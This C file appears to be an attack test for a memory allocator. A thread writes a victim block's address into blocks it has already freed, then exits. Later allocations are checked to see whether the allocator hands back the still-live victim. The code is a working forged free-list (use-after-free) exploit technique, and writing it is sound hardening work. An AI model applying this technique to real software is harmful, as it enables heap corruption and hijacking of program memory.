/* A forged link makes the allocator's own bookkeeping give up a live block, as unlinking did with glibc's
   chunks: a thread writes a victim's address into a block that it has freed, and ends; its lists go back to
   where they came from, the victim among them. No malloc of the thread ever follows the link. */
#include "attack.h"

enum { SIZE = 48, COUNT = 64 };
static void *victim;

static void *thread(void *argument)
{
    static char *blocks[COUNT];
    for (int i = 0; i < COUNT; i++)
        blocks[i] = malloc(SIZE);
    for (int i = 0; i < COUNT; i++)
        free(blocks[i]);
    for (int i = COUNT - 8; i < COUNT; i++) {
        uint64_t *freed = hide(blocks[i]);
        for (int j = 0; j < SIZE / 8; j++)
            freed[j] = (uint64_t)victim;
    }
    return argument;
}

static void *churns(void *argument)
{
    static char *blocks[20000];
    for (int i = 0; i < 20000; i++)
        blocks[i] = malloc(SIZE);
    for (int i = 0; i < 20000; i++)
        if (blocks[i] == victim)
            return &victim;
    return argument;
}

/* In the main thread, then in one that may take over what the first one left. */
static bool attempt(void)
{
    for (int i = 0; i < 100; i++)
        (void)malloc(SIZE);
    /* Shaped as the end of a list. */
    victim = calloc(1, SIZE);
    pthread_t id;
    if (pthread_create(&id, NULL, thread, NULL) != 0 || pthread_join(id, NULL) != 0)
        return false;
    if (churns(NULL) != NULL)
        return true;
    void *found = NULL;
    return pthread_create(&id, NULL, churns, NULL) == 0 && pthread_join(id, &found) == 0 && found != NULL;
}
